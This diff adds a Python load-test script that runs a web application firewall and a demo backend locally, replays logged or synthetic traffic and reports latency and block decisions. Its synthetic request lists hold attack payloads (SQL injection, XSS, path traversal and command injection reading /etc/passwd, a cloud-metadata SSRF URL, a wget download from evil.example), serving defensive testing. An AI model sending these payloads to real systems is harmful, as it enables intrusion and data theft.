@@ -0,0 +1,341 @@
+# benchmarks/load_test.py
+# End-to-end load test: starts backend_demo.py and waf.py locally, replays
+# waf_requests.log (or a synthetic benign/malicious mix) through the proxy and
+# reports throughput, latency percentiles, errors and block decisions.
+#
+# Usage: python benchmarks/load_test.py [--source log|synthetic] [--requests 2000]
+#        [--concurrency 16] [--rate 0] [--waf-args="--engine asyncio --no-ml"]
+#        [--output results.json] [--compare previous.json]
+
+import argparse
+import collections
+import datetime
+import http.client
+import itertools
+import json
+import os
+import platform
+import random
+import re
+import shlex
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+
+ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..')
+
+# Files waf.py reads from its working directory; linked into the temporary run
+# directory when present so the proxy behaves as it does in the project root.
+WAF_INPUT_FILES = ['waf_model.joblib', 'waf_rules.json', 'GeoLite2-Country.mmdb', 'geoip_ranges.bin']
+
+# Request headers that describe the original connection, not the request.
+SKIP_REPLAY_HEADERS = {'host', 'content-length', 'connection', 'keep-alive', 'transfer-encoding'}
+
+BENIGN_PATHS = ['/', '/index.html', '/products?id=42', '/search?q=blue+shoes', '/about',
+                '/api/items?page=3&sort=price', '/static/app.js', '/login']
+MALICIOUS_PATHS = ["/products?id=1%20OR%201=1", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+                   "/download?file=../../etc/passwd", "/ping?host=127.0.0.1;cat%20/etc/passwd",
+                   "/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users",
+                   "/page?url=http://169.254.169.254/latest/meta-data/"]
+MALICIOUS_BODIES = [b"user=admin'--&pass=x", b"comment=<img src=x onerror=alert(1)>",
+                    b"cmd=wget http://evil.example/x.sh"]
+BROWSER_UA = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'
+
+_BLOCK_TEXT = re.compile(rb'Request blocked by WAF(?::| ML)\s*([^.]*)')
+
+
+def load_log_requests(path):
+    """(method, path, headers, body) tuples from a waf_requests.log JSON-lines file."""
+    requests = []
+    with open(path, encoding='utf-8', errors='replace') as f:
+        for line in f:
+            try:
+                entry = json.loads(line)
+            except ValueError:
+                continue
+            method = entry.get('method') or 'GET'
+            if method not in ('GET', 'POST'):
+                continue
+            headers = {k: v for k, v in (entry.get('headers') or {}).items()
+                       if k.lower() not in SKIP_REPLAY_HEADERS}
+            body = (entry.get('body') or '').encode('utf-8') if method == 'POST' else None
+            requests.append((method, entry.get('path') or '/', headers, body))
+    return requests
+
+
+def synthetic_requests(count, malicious_ratio, seed=0):
+    rng = random.Random(seed)
+    requests = []
+    for _ in range(count):
+        headers = {'User-Agent': BROWSER_UA, 'Accept': '*/*'}
+        if rng.random() >= malicious_ratio:
+            if rng.random() < 0.2:
+                requests.append(('POST', '/login', headers, b'user=alice&pass=hunter2'))
+            else:
+                requests.append(('GET', rng.choice(BENIGN_PATHS), headers, None))
+            continue
+        kind = rng.random()
+        if kind < 0.6:
+            requests.append(('GET', rng.choice(MALICIOUS_PATHS), headers, None))
+        elif kind < 0.85:
+            requests.append(('POST', '/comment', headers, rng.choice(MALICIOUS_BODIES)))
+        else:
+            requests.append(('GET', '/', dict(headers, **{'User-Agent': 'sqlmap/1.7'}), None))
+    return requests
+
+
+def free_port():
+    with socket.socket() as s:
+        s.bind(('127.0.0.1', 0))
+        return s.getsockname()[1]
+
+
+def wait_for_port(port, timeout, proc):
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if proc.poll() is not None:
+            return False
+        try:
+            with socket.create_connection(('127.0.0.1', port), timeout=0.5):
+                return True
+        except OSError:
+            time.sleep(0.1)
+    return False
+
+
+def classify(status, body):
+    """Block decision for one response: forwarded, rate_limited, error or the block reason."""
+    if status == 429:
+        return 'rate_limited'
+    if status == 403:
+        m = _BLOCK_TEXT.search(body[:200])
+        reason = m.group(1).decode('utf-8', 'replace').strip() if m else ''
+        reason = reason.replace(' detected', '') or 'ML model'
+        return 'blocked: ' + reason
+    if status >= 500:
+        return 'error'
+    return 'forwarded'
+
+
+def run_load(port, requests, total, concurrency, rate, timeout):
+    """Send total requests (cycling through requests) and return per-request results."""
+    results = []
+    results_lock = threading.Lock()
+    counter = itertools.count()
+    start = time.perf_counter()
+
+    def worker():
+        local = []
+        while True:
+            i = next(counter)
+            if i >= total:
+                break
+            if rate:
+                delay = start + i / rate - time.perf_counter()
+                if delay > 0:
+                    time.sleep(delay)
+            method, path, headers, body = requests[i % len(requests)]
+            t0 = time.perf_counter()
+            try:
+                conn = http.client.HTTPConnection('127.0.0.1', port, timeout=timeout)
+                conn.request(method, path, body=body, headers=headers)
+                response = conn.getresponse()
+                data = response.read()
+                conn.close()
+                local.append((time.perf_counter() - t0, response.status, classify(response.status, data)))
+            except (OSError, http.client.HTTPException):
+                local.append((time.perf_counter() - t0, 0, 'error'))
+        with results_lock:
+            results.extend(local)
+
+    threads = [threading.Thread(target=worker) for _ in range(concurrency)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    return results, time.perf_counter() - start
+
+
+def percentile(sorted_values, pct):
+    if not sorted_values:
+        return 0.0
+    k = min(len(sorted_values) - 1, max(0, int(round(pct / 100.0 * len(sorted_values))) - 1))
+    return sorted_values[k]
+
+
+def scrape_stage_means(port):
+    """Mean microseconds per handle_request stage from /__waf/metrics, if available."""
+    try:
+        conn = http.client.HTTPConnection('127.0.0.1', port, timeout=5)
+        conn.request('GET', '/__waf/metrics')
+        text = conn.getresponse().read().decode('utf-8')
+        conn.close()
+    except (OSError, http.client.HTTPException):
+        return {}
+    sums, counts = {}, {}
+    for m in re.finditer(r'^waf_stage_duration_seconds_(sum|count)\{stage="([^"]+)"\} (\S+)$', text, re.M):
+        (sums if m.group(1) == 'sum' else counts)[m.group(2)] = float(m.group(3))
+    return {stage: round(sums[stage] / counts[stage] * 1e6, 1)
+            for stage in sorted(sums) if counts.get(stage)}
+
+
+def summarize(results, elapsed):
+    latencies = sorted(r[0] for r in results)
+    statuses = collections.Counter(str(r[1]) for r in results)
+    decisions = collections.Counter(r[2] for r in results)
+    errors = decisions.get('error', 0)
+    return {
+        'requests': len(results),
+        'elapsed_s': round(elapsed, 3),
+        'rps': round(len(results) / elapsed, 1) if elapsed else 0.0,
+        'latency_ms': {
+            'mean': round(sum(latencies) / len(latencies) * 1000, 3) if latencies else 0.0,
+            'p50': round(percentile(latencies, 50) * 1000, 3),
+            'p95': round(percentile(latencies, 95) * 1000, 3),
+            'p99': round(percentile(latencies, 99) * 1000, 3),
+            'max': round(latencies[-1] * 1000, 3) if latencies else 0.0,
+        },
+        'error_rate': round(errors / len(results), 4) if results else 0.0,
+        'status_counts': dict(sorted(statuses.items())),
+        'decisions': dict(sorted(decisions.items())),
+    }
+
+
+def git_revision():
+    try:
+        return subprocess.run(['git', 'rev-parse', '--short', 'HEAD'], cwd=ROOT, capture_output=True,
+                              text=True, timeout=5).stdout.strip() or None
+    except (OSError, subprocess.SubprocessError):
+        return None
+
+
+def print_report(report, previous=None):
+    s = report['summary']
+    print(f"\nRequests: {s['requests']} in {s['elapsed_s']}s -> {s['rps']} req/s, "
+          f"error rate {s['error_rate'] * 100:.2f}%")
+    lat = s['latency_ms']
+    print(f"Latency ms: mean {lat['mean']}  p50 {lat['p50']}  p95 {lat['p95']}  "
+          f"p99 {lat['p99']}  max {lat['max']}")
+    print("Decisions:")
+    for decision, count in s['decisions'].items():
+        print(f"  {count:>7}  {decision}")
+    if report.get('stage_mean_us'):
+        print("WAF stage means (us): " + ", ".join(f"{k} {v}" for k, v in report['stage_mean_us'].items()))
+    if previous:
+        p = previous['summary']
+        print(f"\nCompared with {previous.get('timestamp')} ({previous.get('git_revision')}):")
+        print(f"  rps {p['rps']} -> {s['rps']} ({(s['rps'] / p['rps'] - 1) * 100:+.1f}%)" if p['rps'] else '')
+        for key in ('p50', 'p95', 'p99'):
+            old, new = p['latency_ms'][key], lat[key]
+            change = f" ({(new / old - 1) * 100:+.1f}%)" if old else ''
+            print(f"  {key} {old} -> {new} ms{change}")
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Replay traffic through waf.py and backend_demo.py.")
+    parser.add_argument('--source', choices=['log', 'synthetic'], default='log')
+    parser.add_argument('--log', default=os.path.join(ROOT, 'waf_requests.log'),
+                        help="JSON-lines request log to replay (--source log)")
+    parser.add_argument('--malicious-ratio', type=float, default=0.2,
+                        help="share of malicious requests in the synthetic mix")
+    parser.add_argument('--requests', type=int, default=2000, help="total requests to send")
+    parser.add_argument('--concurrency', type=int, default=16)
+    parser.add_argument('--rate', type=float, default=0, help="target requests/s (0 = as fast as possible)")
+    parser.add_argument('--timeout', type=float, default=30)
+    parser.add_argument('--waf-port', type=int, default=0, help="default: a free port")
+    parser.add_argument('--backend-port', type=int, default=0, help="default: a free port")
+    parser.add_argument('--waf-args', default='--no-geoip',
+                        help="extra waf.py arguments; use the = form, e.g. --waf-args=\"--engine tcp --no-ml\"")
+    parser.add_argument('--waf-rate-limit', type=int, default=10 ** 9,
+                        help="RATE_LIMIT passed to waf.py (default effectively off, as all traffic comes from one IP)")
+    parser.add_argument('--waf-penalty-threshold', type=int, default=0,
+                        help="--penalty-threshold passed to waf.py (default 0, off: the one client IP would be banned)")
+    parser.add_argument('--output', default=None, help="JSON results file (default benchmarks/results/load-<time>.json)")
+    parser.add_argument('--compare', default=None, help="previous JSON results to compare against")
+    parser.add_argument('--keep-run-dir', action='store_true', help="keep the temporary directory with logs")
+    args = parser.parse_args()
+
+    if args.source == 'log':
+        requests = load_log_requests(args.log)
+        if not requests:
+            print(f"No replayable requests in {args.log}; use --source synthetic")
+            sys.exit(1)
+    else:
+        requests = synthetic_requests(min(args.requests, 10000), args.malicious_ratio)
+
+    args.waf_port = args.waf_port or free_port()
+    args.backend_port = args.backend_port or free_port()
+    # Run both servers in a scratch directory so their logs don't touch the project's.
+    run_dir = tempfile.mkdtemp(prefix='waf-load-')
+    for name in WAF_INPUT_FILES:
+        if os.path.exists(os.path.join(ROOT, name)):
+            os.symlink(os.path.abspath(os.path.join(ROOT, name)), os.path.join(run_dir, name))
+    backend_out = open(os.path.join(run_dir, 'backend.out'), 'w')
+    waf_out = open(os.path.join(run_dir, 'waf.out'), 'w')
+    waf_cmd = [sys.executable, os.path.join(ROOT, 'waf.py'), '--port', str(args.waf_port),
+               '--rate-limit', str(args.waf_rate_limit),
+               '--penalty-threshold', str(args.waf_penalty_threshold)] + shlex.split(args.waf_args) + [str(args.backend_port)]
+    backend = subprocess.Popen([sys.executable, os.path.join(ROOT, 'backend_demo.py'), str(args.backend_port)],
+                               cwd=run_dir, stdout=backend_out, stderr=subprocess.STDOUT)
+    waf = None
+    try:
+        if not wait_for_port(args.backend_port, 10, backend):
+            print(f"backend_demo.py did not start on port {args.backend_port} (see {run_dir}/backend.out)")
+            sys.exit(1)
+        waf = subprocess.Popen(waf_cmd, cwd=run_dir, stdout=waf_out, stderr=subprocess.STDOUT)
+        if not wait_for_port(args.waf_port, 60, waf):
+            print(f"waf.py did not start on port {args.waf_port} (see {run_dir}/waf.out)")
+            sys.exit(1)
+        print(f"Replaying {args.requests} requests ({args.source}, {len(requests)} distinct) "
+              f"with concurrency {args.concurrency}" + (f" at {args.rate} req/s" if args.rate else ""))
+        results, elapsed = run_load(args.waf_port, requests, args.requests, args.concurrency,
+                                    args.rate, args.timeout)
+        stage_means = scrape_stage_means(args.waf_port)
+    finally:
+        for proc in (waf, backend):
+            if proc is not None and proc.poll() is None:
+                proc.terminate()
+                try:
+                    proc.wait(timeout=10)
+                except subprocess.TimeoutExpired:
+                    proc.kill()
+        backend_out.close()
+        waf_out.close()
+        if not args.keep_run_dir:
+            shutil.rmtree(run_dir, ignore_errors=True)
+
+    report = {
+        'timestamp': datetime.datetime.now().isoformat(timespec='seconds'),
+        'git_revision': git_revision(),
+        'python': platform.python_version(),
+        'config': {
+            'source': args.source, 'requests': args.requests, 'concurrency': args.concurrency,
+            'rate': args.rate, 'waf_args': args.waf_args, 'waf_rate_limit': args.waf_rate_limit,
+            'waf_penalty_threshold': args.waf_penalty_threshold,
+            'malicious_ratio': args.malicious_ratio if args.source == 'synthetic' else None,
+        },
+        'summary': summarize(results, elapsed),
+        'stage_mean_us': stage_means,
+    }
+    previous = None
+    if args.compare:
+        with open(args.compare) as f:
+            previous = json.load(f)
+    print_report(report, previous)
+
+    output = args.output or os.path.join(ROOT, 'benchmarks', 'results',
+                                         f"load-{datetime.datetime.now():%Y%m%d-%H%M%S}.json")
+    os.makedirs(os.path.dirname(os.path.abspath(output)), exist_ok=True)
+    with open(output, 'w') as f:
+        json.dump(report, f, indent=2)
+    print(f"\nResults saved to {output}")
+    if args.keep_run_dir:
+        print(f"Server logs kept in {run_dir}")
+
+
+if __name__ == '__main__':
+    main()